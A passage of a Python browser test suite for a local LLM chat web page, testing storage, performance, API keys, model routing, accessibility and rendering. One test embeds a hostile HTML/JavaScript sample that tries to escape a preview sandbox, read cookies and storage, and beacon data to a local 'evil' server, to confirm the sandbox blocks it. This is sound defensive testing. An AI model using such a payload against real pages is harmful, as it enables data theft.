             IDBObjectStore.prototype.put = () => { throw new DOMException('no room', 'QuotaExceededError'); }""")
    p.ask("Is there room?")
    assert "no room left" in p.text("#status")[0], p.text("#status")
    p.run("undo()")
    p.ask("And now?")
    assert len(p.text(".message")) == 4
    p.load()
    p.wait("return document.querySelectorAll('.message').length === 4")  # also what was not kept at first
    assert p.text(".message.user .text") == ["Is there room?", "And now?"]
    p.run("""const c = ingle.chat; let parent = c.leaf;
             for (let i = 0; i < 5000; i++) parent = ingle.add({role: i % 2 ? 'assistant' : 'user', parent, content: 'message ' + i}).id;
             ingle.show()""")
    p.wait("return document.querySelector('.earlier')?.innerText.includes('Show earlier messages')")
    assert p.run("return document.querySelectorAll('.message').length") == 60
    p.run("document.querySelector('.earlier').click()")
    p.wait("return document.querySelectorAll('.message').length === 360")
    p.b.call("POST", p.b.session + "/goog/cdp/execute", {"cmd": "Page.addScriptToEvaluateOnNewDocument", "params": {
        "source": "indexedDB.open = () => { throw new DOMException('not here', 'SecurityError'); }"}})
    p.load()
    assert "keeps nothing here" in p.text("#status")[0], p.text("#status")
    p.ask("Still there?")
    assert len(p.text(".message")) == 2


MANY = """const m = [], body = 'Some **bold** text.\\n\\n- one\\n- two\\n\\n'.repeat(10);
for (let i = 0; i < 5000; i++) m.push({id: 'm' + i, parent: i ? 'm' + (i - 1) : null, role: i % 2 ? 'assistant' : 'user', content: `message ${i} ${body}`});
const f = new File([JSON.stringify({chats: [{id: 'c', title: 'Many', leaf: 'm4999', messages: m}]})], 'x.json'), dt = new DataTransfer();
dt.items.add(f);
$('pick-import').files = dt.files;
URL.createObjectURL = b => { window.saved = b; return 'about:blank#'; };
HTMLAnchorElement.prototype.click = function () {};"""


def many(p):
    """5,000 messages: no task is long when they are imported, opened, searched, exported, deleted and brought back."""
    here = "return document.querySelectorAll('.message').length === %d && ingle.isIdle()"
    with browser.Page(p.server) as q:
        q.run(MANY)
        box = "document.querySelector('#list li button:last-child').click();"
        for what, script, until in (
                ("import", "$('pick-import').onchange()", "return document.querySelectorAll('#list .pick').length === 1"),
                ("open", "document.querySelector('#list .pick').click()", here % 60),
                ("search", "$('search').value = 'message 4321'; $('search').oninput()", "return document.querySelectorAll('#list .pick').length === 1"),
                ("export", "$('search').value = ''; $('search').oninput();" + box + "$('chat-json').click()", "return window.saved"),
                ("earlier", "$('chat-box').close(); document.querySelector('.earlier').click()", here % 360),
                ("away", "$('new').click()", here % 0),
                ("delete", box + "$('chat-delete').click()", "return document.querySelectorAll('#list .pick').length === 0"),
                ("undo", "$('undo').click()", here % 60)):
            q.b.begin_tasks()
            q.run("setTimeout(() => {" + script + "})")
            q.wait(until, seconds=200)
            longest = q.b.tasks()[0]
            print(f"{longest:7.1f} ms: {what}", flush=True)
            assert longest < LONGEST, (what, longest)
        saved = q.b.call("POST", q.b.session + "/execute/async", {"args": [], "script": "saved.text().then(t => arguments[0](JSON.parse(t).chats[0].messages.length))"})
        assert saved == 5000, saved


def key(p):
    """A 401 asks for the key, and the question is then asked with it; a revoked key is told."""
    with client.Server(p.ingle, "--api-key", "sesame") as s, browser.Page(s) as q:
        q.wait("return $('key-box').open")
        q.b.click("#key-later")
        q.wait("return $('machine').innerText.includes('needs a key') || $('machine').innerText.includes('tokens of context')")
        assert "drafting" not in q.text("#machine")[0], q.text("#machine")
        q.b.type("#input", "Let me in\n")
        q.wait("return document.querySelector('.message:last-child .error')?.innerText.includes('needs a key')")
        q.wait("return $('key-box').open")
        q.run("$('key-field').value = 'sesame'; $('key-box').close()")
        q.wait("return document.querySelector('.message:last-child .stats')?.innerText.includes('tokens')")
        q.wait_done()
        assert q.text(".message.user .text") == ["Let me in"] and len(q.text(".message")) == 2
        q.wait("return $('machine').innerText.includes('drafts')")
        q.run("$('open-settings').click(); $('key').value = 'wrong'; $('key').oninput(); $('settings').close()")
        q.b.type("#input", "Once more\n")
        q.wait("return document.querySelector('.message:last-child .error')?.innerText.includes('does not accept this key')")
        assert q.text(".message.user .text") == ["Let me in", "Once more"]
    revoked(p)


def revoked(p):
    """The server drops a key in the middle of an answer: what was written stays; with another key the answer goes on."""
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "keys")

        def allow(*keys):
            with open(path + ".new", "w", opener=lambda name, flags: os.open(name, flags, 0o600)) as f:
                f.write("".join(key + "\n" for key in keys))
            os.replace(path + ".new", path)

        allow("me:sesame")
        with client.Server(p.ingle, "-c", "32768", "--api-key-file", path) as s, browser.Page(s) as q:
            q.wait("return $('key-box').open")
            q.run("$('key-field').value = 'sesame'; $('key-box').close()")
            q.setting("extra", LONG)
            q.setting("max_tokens", "12000")  # it takes longer than the server needs to see the new keys
            q.b.type("#input", "A long story\n")
            q.wait("return document.querySelector('.message:last-child .text')?.innerText.length > 50")
            allow("me:other")
            asked = lambda: s.get("/props", {"Authorization": "Bearer sesame"})[0]
            until(lambda: asked() == 401)  # the file is looked at every second
            q.load()
            q.wait("return document.querySelector('.message:last-child .error')?.innerText.includes('does not accept this key')")
            q.wait("return $('key-box').open")
            q.run("$('key-field').value = 'other'; $('key-box').close()")
            q.wait("return document.querySelector('.message:last-child .stats').innerText.includes('12,000 tokens')")
            q.wait_done()
            assert not q.text(".message:last-child .error")[0] and len(q.text(".message")) == 2, q.text(".message")


def away(p):
    """The server goes in mid-answer and comes back: what was written stays, and goes on."""
    s = client.Server(p.ingle, "-c", "32768")
    with browser.Page(s) as q:
        q.setting("extra", LONG)
        q.b.type("#input", "A long story\n")
        q.wait("return document.querySelector('.message:last-child .text')?.innerText.length > 100")
        s.process.kill()
        s.process.wait()
        q.wait("return document.querySelector('.message:last-child .error').innerText.includes('lost')", seconds=30)
        kept = q.answer()
        assert len(kept) > 50
        q.wait("return $('machine').innerText.includes('cannot be reached')", seconds=90)
        with client.Server(p.ingle, "--port", str(s.port)):
            q.wait("return $('machine').innerText.includes('nano')", seconds=90)
            q.setting("max_tokens", "10")
            q.click_act("Continue")
            q.wait("return document.querySelector('.message:last-child .stats').innerText.includes('10 tokens')")
            q.wait_done()
            assert q.answer().startswith(kept[:40]) and len(q.answer()) > len(kept)
            q.wait("return $('status').innerText === 'The answer is complete.'")
        with client.Server(p.ingle, "-m", client.nano_v4(), "-c", "2048", "--port", str(s.port)):  # with another model
            q.ask("Who are you?")
            assert q.run("return [...document.querySelectorAll('.message.assistant .who')].at(-1).textContent") == "nano-v4-MXFP4", q.text(".message .who")
            assert q.run("return document.querySelectorAll('.message.assistant .text')[0].textContent").startswith(kept[:40])
            for name, kind, what in ("a.png", "image/png", "an image"), ("a.wav", "audio/wav", "sound"):  # this one reads text
                n, said = q.b.call("POST", q.b.session + "/execute/async", {"script": ADD, "args": [name, media.png(8, 8).hex(), kind, "drop", 0]})
                assert n == 0 and said == f"{name} is not attached: it is {what}, and the model reads text only.", (n, said)
        s.close()


def address(p):
    """/?q= asks; a question without an answer is left out of the next request."""
    p.setting("max_tokens", "4", "all")
    p.load("/?q=From+the+address")
    p.wait_done()
    assert p.text(".message.user .text") == ["From the address"] and p.run("return location.search") == ""
    p.setting("extra", '{"grammar": "broken("}')
    p.b.type("#input", "This fails\n")
    p.wait("return document.querySelector('.message:last-child .error')?.innerText")
    p.setting("extra", "")
    p.run(SENT)
    p.ask("This works")
    roles = [(m["role"], m["content"]) for m in p.run("return sent[0].messages")]
    assert [r for r, _ in roles] == ["user", "assistant", "user"] and roles[2][1] == "This works", roles
    assert any("left out" in t for t in p.text(".error"))
    p.setting("system", "word " * 5000)
    p.b.click("#input")
    p.b.type("#input", "Too long\n")
    p.wait("return document.querySelector('.message:last-child .error')?.innerText.includes('Start a new conversation')")
    p.run("document.dispatchEvent(new KeyboardEvent('keydown', {code: 'KeyO', ctrlKey: true, shiftKey: true}))")
    assert not p.text(".message") and p.run("return document.activeElement.id") == "input"


def models(p):
    """Behind the router: the picker, load and unload, which model wrote what, the model of a conversation."""
    import router
    router.INGLE = p.ingle
    with router.Router(router.PRESETS) as s, browser.Page(s) as q:
        q.wait("return !$('model').hidden")
        assert "deep (unloaded)" in q.text("#model option"), q.text("#model option")
        q.setting("max_tokens", "4", "all")
        q.run("$('model').value = 'gem'; $('model').onchange()")
        q.ask("Hello")
        assert q.text(".message.assistant .who") == ["gem"]
        q.run("$('open-models').click()")
        q.run("document.querySelector('#models-list [data-model=small]')?.click()")
        q.wait("document.querySelector('#models-list [data-model=small]')?.textContent === 'Load' && 0; return document.querySelector('#models-list [data-model=small]')")
        if "Load" in q.text("#models-list [data-model=small]"):
            q.run("document.querySelector('#models-list [data-model=small]').click()")
        q.wait("return document.querySelector('#models-list [data-model=small]').textContent === 'Unload'")
        assert "planned" in "".join(q.text("#models-list")) and "Memory planned" in q.text("#models-memory")[0]
        q.run("document.querySelector('#models-list [data-model=small]').click()")
        q.wait("return document.querySelector('#models-list [data-model=small]').textContent === 'Load'")
        q.run("$('models-box').close()")
        q.b.click("#new")
        q.run("$('model').value = 'small'; $('model').onchange()")
        q.ask("Hello there")
        assert q.text(".message.assistant .who") == ["small"]
        q.run("document.querySelectorAll('#list .pick')[1].click()")
        q.wait("return $('model').value === 'gem' && document.querySelectorAll('.message').length === 2")
        q.run("$('model').value = 'small'; $('model').onchange()")  # in the middle of it
        q.ask("Again")
        assert q.run("return [...document.querySelectorAll('.message.assistant .who')].map(e => e.textContent)") == ["gem", "small"]
        q.load()
        q.wait("return $('model').value === 'small' && document.querySelectorAll('.message').length === 4")
        q.load("/?model=gem&q=Hello+gem")
        q.wait_done()
        assert q.text(".message.assistant .who") == ["gem"], q.text(".message .who")
        q.run("$('open-models').click()")
        q.wait("return $('models-list').children.length > 0")
        assert q.run("return $('models-pull').hidden")  # the server does not allow it
    with router.Router(router.PRESETS, "--page-pull", "--hub", "http://127.0.0.1:9") as s, browser.Page(s) as q:
        q.run("$('open-models').click()")
        q.wait("return !$('models-pull').hidden")
        for name in "no name", "o/r:Q4_0":  # the page's error, and the model's: there is no hub
            q.run("$('models-name').value = arguments[0]; $('models-fetch').click()", name)
            q.wait("return !$('models-error').hidden" if name == "no name" else "return $('models-list').textContent.includes('o/r:Q4_0')")
        q.wait("return $('models-list').textContent.includes('failed')", seconds=60)
        assert q.run("return $('models-error').hidden && $('models-box').open")


LUMA = """
const lum = c => { const v = c.map(x => { x /= 255; return x <= .03928 ? x / 12.92 : ((x + .055) / 1.055) ** 2.4; }); return .2126 * v[0] + .7152 * v[1] + .0722 * v[2]; };
const parse = s => (s.match(/[\\d.]+/g) ?? []).map(Number);
const back = e => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.length && (c[3] ?? 1) > .99) return c.slice(0, 3); } return [255, 255, 255]; };
const seen = e => e.checkVisibility?.() ?? !!e.offsetParent;
const out = [];
for (const e of document.querySelectorAll('body *')) {
    if (!seen(e) || e.disabled || e.closest('.katex, .hidden-text, [aria-hidden=true]')) continue;
    const own = [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim());
    const holder = e.placeholder && !e.value;
    if (!own && !holder) continue;
    const front = parse(getComputedStyle(e, holder ? '::placeholder' : null).color).slice(0, 3);
    const a = lum(front), b = lum(back(e)), ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    if (ratio < 4.5) out.push([e.tagName, e.className, (e.textContent || e.placeholder).slice(0, 30), ratio.toFixed(2)]);
}
return out"""
NAMES = """const seen = e => e.checkVisibility?.() ?? !!e.offsetParent;
return [...document.querySelectorAll('button, textarea, input, select, summary, dialog, [role=group], meter, progress, pre[tabindex]')].filter(e => seen(e) && !(
    e.getAttribute('aria-label') || e.getAttribute('aria-labelledby') || e.textContent.trim() || e.labels?.length)).map(e => e.outerHTML.slice(0, 100))"""
SMALL = """return [...document.querySelectorAll('button, select, #input, #search')].filter(e => e.checkVisibility() && !e.closest('.hidden-text'))
    .map(e => [e.textContent.slice(0, 20), e.getBoundingClientRect().height]).filter(x => x[1] < 43.5)"""


# A ring of the focus that something cuts off is no ring.
RINGS = """const seen = e => e.checkVisibility?.() ?? !!e.offsetParent, out = [];
for (const e of document.querySelectorAll('button, textarea, input, select, summary, a[href], [tabindex="0"]')) {
    if (!seen(e) || e.disabled || e.closest('[hidden], .hidden-text') || (document.querySelector('dialog[open]') && !e.closest('dialog[open]'))) continue;
    e.focus({focusVisible: true});
    const c = getComputedStyle(e), n = parseFloat(c.outlineOffset) + parseFloat(c.outlineWidth);
    if (document.activeElement !== e) continue;
    if (c.outlineStyle !== 'solid') { out.push(['no ring', e.outerHTML.slice(0, 80)]); continue; }
    const r = e.getBoundingClientRect();
    for (let b = e.parentElement; b; b = b.parentElement) {
        const s = getComputedStyle(b), x = b.getBoundingClientRect();
        if (s.overflowX === 'visible' && s.contentVisibility !== 'auto' || b === document.documentElement || b === document.body) continue;
        if (r.left - n < x.left - 0.5 || r.right + n > x.right + 0.5) { out.push([b.id || b.className, e.outerHTML.slice(0, 80)]); break; }
        const scrolls = s.overflowY === 'auto' && b.scrollHeight > b.clientHeight;
        if (!scrolls && (r.top - n < x.top - 0.5 || r.bottom + n > x.bottom + 0.5)) { out.push([b.id || b.className, e.outerHTML.slice(0, 80)]); break; }
    }
}
return out"""


def axe(p, file):
    """What axe-core (its axe.min.js) finds on the page as it is."""
    with open(file) as f:
        p.b.run(f.read() + "\nwindow.axe = axe;")
    found = p.b.call("POST", p.b.session + "/execute/async", {"args": [], "script": "const done = arguments[0]; axe.run(document, "
        "{resultTypes: ['violations']}).then(r => done(r.violations.map(v => [v.id, v.nodes.map(n => n.html.slice(0, 150))])), e => done(String(e)))"})
    assert found == [], found


def reading(p):
    """What a screen reader, a keyboard, weak eyes and a thumb need, in both themes and on a phone."""
    p.setting("max_tokens", "6", "all")
    p.ask("Hello")
    shown(p, open(os.path.join(os.path.dirname(__file__), "page_sample.md")).read())
    p.run("ingle.add({role: 'assistant', parent: null, content: '', reasoning: 'Only a thought', model: 'm'}); ingle.show()")
    assert "(no answer after the thought)" in p.text(".phase"), p.text(".phase")
    assert p.run("return document.querySelector('.message:last-child details').open")
    shown(p, open(os.path.join(os.path.dirname(__file__), "page_sample.md")).read())
    ids = p.run("return [...document.querySelectorAll('[id]')].map(e => e.id)")
    assert len(ids) == len(set(ids)), "an id twice"
    assert p.run("return document.documentElement.lang") == "en"
    for mark in ("main", "nav[aria-label]", "h1", "h2", "[role=log]", "[role=status]"):
        assert p.run("return document.querySelectorAll(arguments[0]).length", mark), mark
    for theme, name in (("light", "light"), ("dark", "dark")):
        choose(p, theme.capitalize())
        for open_, close in (("", ""), ("$('open-settings').click(); document.querySelectorAll('#fields details').forEach(d => d.open = true)", "$('settings').close()")):
            p.run(open_)
            assert not p.run(NAMES), p.run(NAMES)
            assert not p.run(LUMA), (theme, p.run(LUMA))
            rings = p.run(RINGS)
            assert not rings, rings
            if p.axe:
                axe(p, p.axe)
            p.run(close)
        if p.folder:
            p.run("$('log').scrollTop = 0")
            p.b.shot(f"{p.folder}/{name}.png")
    choose(p, "System")
    ring = p.run("$('input').focus(); return getComputedStyle($('input')).outlineStyle")
    assert ring == "solid", ring
    for width in (360, 320):
        p.b.call("POST", p.b.session + "/goog/cdp/execute", {"cmd": "Emulation.setDeviceMetricsOverride", "params": {
            "width": width, "height": 740, "deviceScaleFactor": 1, "mobile": True}})
        assert p.run("return document.documentElement.scrollWidth <= window.innerWidth"), f"the page is wider than {width} pixels"
        small = p.run(SMALL)
        assert not small, small
        assert p.run("return [...document.querySelectorAll('h1')].filter(e => e.checkVisibility()).length") == 1
        if p.axe:
            axe(p, p.axe)
    if p.folder:
        p.run("$('log').scrollTop = 0")
        p.b.shot(f"{p.folder}/phone.png")
    p.b.click("#open-list")
    assert p.run("return document.activeElement.id") == "new"
    p.run("document.dispatchEvent(new KeyboardEvent('keydown', {key: 'Escape'}))")
    assert p.run("return document.activeElement.id") == "open-list"


# A stream stops after its first bytes until the test says so.
HOLD = """const f = fetch;
window.fetch = async (u, o) => {
    const r = await f(u, o);
    if (!/completions$/.test(u)) return r;
    const from = r.body.getReader();
    let left = 5000;
    return new Response(new ReadableStream({async start(c) {
        o.signal.addEventListener('abort', () => c.error(new DOMException('', 'AbortError')));
        for (;;) {
            const {done, value} = await from.read();
            if (done) { c.close(); return; }
            c.enqueue(value.slice(0, left));
            while (value.length > left && !window.released) await new Promise(go => setTimeout(go, 50));
            c.enqueue(value.slice(left));
            left = Math.max(0, left - value.length);
        }
    }}), {status: r.status, headers: r.headers});
};"""


def parallel(p):
    """Two conversations are answered at once; each is whole, whichever is looked at."""
    p.setting("max_tokens", "400", "all")
    p.setting("extra", LONG, "all")
    p.run(HOLD)
    for text in "The first", "The second":
        p.b.click("#new")
        p.b.type("#input", text + "\n")
        p.wait("return document.querySelector('.message:last-child .text')?.innerText.length > 0")
    assert p.run("return document.querySelectorAll('#list li.busy').length") == 2
    p.run("document.querySelectorAll('#list .pick')[1].click(); window.released = true")
    for _ in range(2):
        p.wait("return document.querySelectorAll('.message').length === 2")
        assert "400 tokens" in p.wait_done() and not any(p.text(".message .error")), p.stats()
        p.run("document.querySelectorAll('#list .pick')[0].click()")
    p.wait("return document.querySelectorAll('#list li.busy').length === 0")
    assert p.text(".message.user .text") == ["The second"]


def touch(p):
    """On a touch screen Enter begins a line, and the button sends."""
    p.b.call("POST", p.b.session + "/goog/cdp/execute", {"cmd": "Emulation.setDeviceMetricsOverride", "params": {
        "width": 390, "height": 740, "deviceScaleFactor": 1, "mobile": True}})
    p.b.call("POST", p.b.session + "/goog/cdp/execute", {"cmd": "Emulation.setTouchEmulationEnabled", "params": {"enabled": True}})
    p.load()
    assert p.run("return $('input').getAttribute('enterkeyhint')") == "enter"
    p.setting("max_tokens", "4")
    p.b.type("#input", "one\ntwo")
    assert p.run("return $('input').value") == "one\ntwo" and not p.text(".message")
    p.run("$('send').click()")
    p.wait_done()
    assert p.text(".message.user .text") == ["one\ntwo"]


PREVIEW = """<h1 id=h>Hi</h1><style>h1 { color: red }</style><img src=%(e)s/img><link rel=stylesheet href=%(e)s/css>
<script src=%(e)s/js></script><iframe src=%(e)s/frame></iframe><link rel=prefetch href=%(e)s/a><object data=%(e)s/b></object>
<meta http-equiv=refresh content="1;url=%(e)s/c"><script>
const out = [], f = document.createElement('form');
for (const what of [() => parent.document, () => { top.location = '%(e)s/top'; }, () => localStorage.x, () => document.cookie, () => indexedDB.open('ingle'),
    () => new RTCPeerConnection(), () => eval('1')]) try { what(); out.push('done: ' + what); } catch (e) { out.push(e.name); }
fetch('%(e)s/d').catch(() => 0); fetch('/v1/models').then(() => out.push('fetched')).catch(() => 0);
navigator.sendBeacon('%(e)s/e', 'x'); new WebSocket('%(e)s/f'.replace('http', 'ws')); new EventSource('%(e)s/g'); new Image().src = '%(e)s/h';
window.open('%(e)s/i'); f.action = '%(e)s/j'; document.body.append(f); f.submit(); import('%(e)s/k').catch(() => 0);
setTimeout(() => parent.postMessage([getComputedStyle(h).color, ...out], '*'), 500);
setTimeout(() => { location = '%(e)s/self'; }, 800);
</script>"""


def preview(p):
    """A document of an answer is shown on request; it reaches neither the page nor any address."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)
        do_POST = do_GET

        def log_message(self, *_):
            pass

    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    p.run("window.got = null; addEventListener('message', e => { window.got = [e.origin, ...e.data]; })")
    shown(p, "See\n\n```html\n" + PREVIEW % {"e": f"http://127.0.0.1:{evil.server_port}"} + "\n```\n\n```python\nx\n```\n")
    assert p.text(".code .bar button") == ["Preview", "Copy", "Copy"], p.text(".code .bar button")
    p.b.click(".code .bar button")
    got = p.wait("return window.got")
    assert got == ["null", "rgb(255, 0, 0)"] + ["SecurityError"] * 5 + ["ReferenceError", "EvalError"], got
    time.sleep(2.5)
    assert not asked, asked
    assert p.run("return location.pathname") == "/" and p.run("return document.querySelectorAll('iframe').length") == 1
    p.b.click(".code .bar button")
    assert p.run("return document.querySelectorAll('iframe').length") == 0 and p.text(".code .bar button")[0] == "Preview"
    evil.shutdown()
    evil.server_close()


def model(p):
    """A server of one model says what it is; how long a thought took."""
    p.b.click("#open-models")
    said = p.wait("return $('models-list').innerText")
    for want in ("nano-gemma4", "gemma4", "parameters", "4,096 tokens of context", "reads text, image, audio", "threads", "ingle "):
        assert want in said, (want, said)
    assert p.text("#models-title") == ["Model"]
    p.run("$('models-box').close()")
    p.run(FAKE, ["data: " + json.dumps({"choices": [{"index": 0, "delta": d, "finish_reason": f}]}) + "\n\n"
                 for d, f in (({"reasoning_content": "Hm."}, None), ({"content": "So."}, None), ({}, "stop"))], 1500)
    p.b.click("#open-settings")
    p.run("$('thoughts').click(); $('settings').close()")
    p.b.type("#input", "x\n")
    p.wait("return document.querySelector('.assistant details').open")  # as the box says
    p.wait("return /^Thought for \\d+ s$/.test(document.querySelector('.assistant summary')?.textContent)")


def paint(p):
    """Processor time of the page's thread until the page can be used."""
    p.b.begin_tasks()
    p.load()
    used = sum(p.b.tasks())
    print(f"{used:7.1f} ms until it can be used")
    assert used < 300, used


AREA = r"""The area under $y = x^2$ from 0 to 1 is an integral:

$$\int_0^1 x^2\,dx = \left[\frac{x^3}{3}\right]_0^1 = \frac{1}{3}$$

A sum of $n$ rectangles comes close to it, because $\sum_{k=1}^{n} k^2 = \frac{n(n+1)(2n+1)}{6}$:

$$S_n = \frac{1}{n^3} \sum_{k=1}^{n} k^2 = \frac{1}{3} + \frac{1}{2n} + \frac{1}{6n^2}, \qquad \sqrt{S_n} \to \sqrt{\tfrac{1}{3}}$$
"""
PROGRAM = """In Python, with the error beside it:

```python
def area(n: int) -> float:
    \"\"\"Sum of n rectangles under y = x^2.\"\"\"
    return sum((k / n) ** 2 for k in range(1, n + 1)) / n

for n in (10, 100, 1000):
    print(n, area(n), abs(area(n) - 1 / 3))
```

| rectangles | area | error |
|---:|---:|---:|
| 10 | 0.3850 | 0.0517 |
| 100 | 0.3384 | 0.0050 |
| 1000 | 0.3338 | 0.0005 |

- the error shrinks like **1/2n**
- [x] tested with `n = 1000`
"""
TALK = """const [area, program] = arguments, model = 'gemma-4-31B-it', said = (parent, content, more) => ingle.add({role: 'assistant', parent, content, model, ...more});
const asked = (parent, content) => ingle.add({role: 'user', parent, content}).id;
const stats = (answer, rate, prompt, promptRate, drafted, accepted, context) => ({answer, rate, ms: 1000 * answer / rate, prompt, cached: 0, promptRate, drafted, accepted, context});
asked(null, 'How large is the area?');
const q = asked(null, 'How large is the area under x\u00b2?');
said(q, 'A third.');
const a = said(q, area, {reasoning: 'It is an integral.', stats: {...stats(212, 7.4, 24, 61, 180, 131, 236), thought: 9000}}).id;
said(asked(a, 'Show it with a program.'), program, {stats: stats(264, 8.1, 31, 58, 210, 160, 531)});
ingle.show();"""


def pictures(p):
    """Those of the documentation, in the folder of --shots: a made-up conversation."""
    if not p.folder:
        return
    shot = lambda name: p.b.shot(f"{p.folder}/page-{name}.png")
    p.b.size(1100, 820)
    p.setting("max_tokens", "1", "all")
    for text in "Translate a letter", "Name my cat", "Area under a parabola":
        p.b.click("#new")
        p.ask(text)
    p.run("ingle.chat.nodes.clear(); ingle.chat.leaf = null;" + TALK, AREA, PROGRAM)
    p.wait("return ingle.isIdle() && document.querySelectorAll('.message').length === 4 && document.querySelector('.katex')")
    choose(p, "Light")

    def at(css):
        p.run("document.activeElement.blur(); document.querySelector(arguments[0]).scrollIntoView({block: 'start'})", css)
        time.sleep(0.7)

    at(".message:nth-child(1)")
    shot("formulas")
    at(".message:nth-child(3)")
    shot("light")
    p.b.click("#theme")
    at(".message:nth-child(3)")
    shot("dark")
    choose(p, "Light")
    add = lambda name, data: p.b.call("POST", p.b.session + "/execute/async", {"script": ADD, "args": [name, data.hex(), "", "call", 0]})
    add("area.py", b"def area(n):\n    return sum((k / n) ** 2 for k in range(1, n + 1)) / n\n")
    add("exercise.pdf", pdf("Exercise 7: the area under a parabola, in steps"))
    p.b.type("#input", "Which exercise does this program solve?")
    at(".message:nth-child(1)")
    p.wait("return !$('context').hidden")
    shot("files")
    p.run("while (document.querySelector('#files li button')) document.querySelector('#files li button').click(); $('input').value = ''")
    p.b.call("POST", p.b.session + "/goog/cdp/execute", {"cmd": "Emulation.setDeviceMetricsOverride", "params": {
        "width": 360, "height": 740, "deviceScaleFactor": 1, "mobile": True}})
    at(".message:nth-child(4)")
    shot("phone")
    p.b.call("POST", p.b.session + "/goog/cdp/execute", {"cmd": "Emulation.clearDeviceMetricsOverride", "params": {}})
    p.run("document.querySelectorAll('.message')[1].querySelector('.versions button').click()")
    p.wait("return document.querySelectorAll('.message').length === 2")
    time.sleep(0.7)
    shot("versions")


def cut(p):
    """A table that is too long for one block goes on with its head, a list with its numbers."""
    shown(p, "|a|b|\n|--|--|\n" + "".join(f"|{n}|x|\n" for n in range(250)) + "\nEnd\n\n" + "".join(f"{n}. item\n" for n in range(1, 250)))
    assert p.run("return document.querySelectorAll('.message td').length") == 500
    heads = p.run("return [...document.querySelectorAll('.message th')].map(e => e.textContent)")
    assert len(heads) >= 4 and set(heads) == {"a", "b"}, heads
    assert p.run("return document.querySelectorAll('.message li').length") == 249
    starts = p.run("return [...document.querySelectorAll('.message ol')].map(o => o.start)")
    assert starts[0] == 1 and len(starts) >= 2 and 1 < starts[1] < 249, starts


PARTS = [pictures, paint, cut, parallel, touch, preview, model, copying, editing, versions, progress, files, media_files, settings, tools, keeping, reload, tabs, full, many, key, away, address, models, reading, markup, streaming, once]


def main(ingle, names, folder, axe_file, parts=PARTS):
    with client.Server(ingle) as s:
        for part in parts:
            if names and part.__name__ not in names:
                continue
            with browser.Page(s) as p:
                p.folder = folder
                p.axe = axe_file
                p.server = s
                p.ingle = ingle
                begun = time.monotonic()
                part(p)
                print(f"{part.__name__}: ok, {time.monotonic() - begun:.1f} s", flush=True)


if __name__ == "__main__":
    if not browser.available():
        print("skipped: there is no chromium with chromedriver here")
        sys.exit(77)
    args = sys.argv[2:]
    shots = args.pop(args.index("--shots") + 1) if "--shots" in args else None
    axe_file = args.pop(args.index("--axe") + 1) if "--axe" in args else None
    main(sys.argv[1], [a for a in args if not a.startswith("--")], shots, axe_file)
    print("ok")
